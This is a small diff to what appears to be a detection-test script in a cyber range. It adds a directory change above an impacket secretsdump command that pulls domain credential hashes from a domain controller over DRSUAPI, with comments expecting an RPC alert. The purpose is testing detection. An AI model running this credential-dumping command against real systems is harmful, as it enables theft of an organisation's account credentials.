@@ -7,4 +7,5 @@
 # outcome: attempt
 # must: alert rpc
 . "$RANGE_HERE/item.sh"
+cd "$HOME"
 says 'DRSUAPI' impacket secretsdump -just-dc "CORP/Administrator:$ADMIN_PASSWORD@$dc1"
